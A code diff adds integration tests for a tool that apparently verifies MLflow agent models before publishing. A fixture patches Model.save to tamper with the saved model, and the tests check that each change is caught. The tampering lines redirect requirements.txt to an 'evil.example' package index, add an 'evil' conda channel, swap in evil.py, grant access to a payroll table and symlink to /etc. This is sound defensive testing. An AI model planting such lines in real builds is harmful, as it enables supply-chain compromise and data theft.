@@ -11,7 +11,7 @@ import pytest
 
 from tests.doubles.runner import PULL_REQUEST, Runner
 from tests.integration.conftest import ECHO, Checkout
-from tests.integration.test_bad_input import the_error
+from tests.integration.test_bad_input import PLAIN, the_error
 
 SECRET = "s3cr3t-of-the-j0b-4711"
 # The shape of a personal access token of Databricks; put together, so that it is found nowhere.
@@ -96,6 +96,85 @@ def test_a_file_that_changes_while_the_agent_is_built(checkout: Checkout) -> Non
 
     assert "changed while the agent was built" in error
     assert "code/helpers.py" in error
+
+
+# It has its say when the model is saved for the last time, with everything in it.
+CHANGES_THE_MODEL = """
+import os
+from pathlib import Path
+from mlflow.models import Model
+
+save = Model.save
+
+def save_changed(self, path):
+    folder = Path(path).parent
+    if (folder / "requirements.txt").exists():
+        {changes}
+    save(self, path)
+
+Model.save = save_changed
+"""
+CHANGES = {
+    "self.resources['databricks']['table'] = [{'name': 'prod.hr.payroll'}]": (
+        "`MLmodel`: `resources` is "
+    ),
+    "self.auth_policy = {'user_auth_policy': {'api_scopes': ['sql']}}": (
+        "`MLmodel`: `auth_policy` is "
+    ),
+    "self.flavors['python_function']['model_code_path'] = 'evil.py'": (
+        '_code_path` is "evil.py", and should be "agent.py".'
+    ),
+    "(folder / 'requirements.txt').write_text('--index-url https://evil.example')": (
+        '`requirements.txt` has the options ["--index-url https://evil.example"]'
+    ),
+    "(folder / 'conda.yaml').write_text('channels: [evil]')": "`conda.yaml`: `channels` is ",
+    "(folder / 'evil.py').write_text('')": "`evil.py` is neither in the manifest nor a file of",
+    "os.mkfifo(folder / 'pipe')": "`pipe` is neither a file nor a folder.",
+    "os.symlink('/etc', folder / 'code')": "`code` is a link.",
+}
+
+
+def test_a_model_that_the_agent_changes(checkout: Checkout) -> None:
+    checkout.write("resources.yml", resources("claude"))
+    agent = CHANGES_THE_MODEL.format(changes="; ".join(CHANGES)) + ECHO
+
+    step = checkout.run(agent, verify="off", check_resources="warn")
+
+    error = the_error(step)
+    assert "changed while the agent was built" in error
+    for said in CHANGES.values():
+        assert said in error
+    assert checkout.versions() == []
+
+
+def test_resources_that_langchain_declares_are_those_that_were_seen(checkout: Checkout) -> None:
+    checkout.write("requirements.txt", "mlflow==3.17.2\nlangchain==1.5.2\n")
+    agent = CHANGES_THE_MODEL.format(
+        changes="self.resources = {'api_version': '1', 'databricks':"
+        " {'serving_endpoint': [{'name': 'unseen'}]}}"
+    ) + (
+        "from langchain_core.runnables import RunnableLambda\n"
+        "import mlflow\n"
+        "mlflow.models.set_model(RunnableLambda(lambda question: 'an answer'))\n"
+    )
+
+    step = checkout.run(agent, verify="off", input_example='{"question": "?"}')
+
+    error = the_error(step)
+    assert "`MLmodel`: `resources` is" in error
+    assert "unseen" in error
+    assert checkout.versions() == []
+
+
+def test_an_artifact_with_bytecode_in_it(checkout: Checkout) -> None:
+    checkout.write("data/__pycache__/helpers.cpython-312.pyc", "")
+    checkout.write("data/fact.txt", "a fact")
+    agent = PLAIN.format(predict="['an answer']")
+
+    step = checkout.run(agent, input_example='["question"]', artifacts=f"data={checkout.name}/data")
+
+    assert step.status == 0, step.log
+    assert list(checkout.model(step).rglob("*.pyc")) == []
 
 
 @pytest.mark.parametrize(
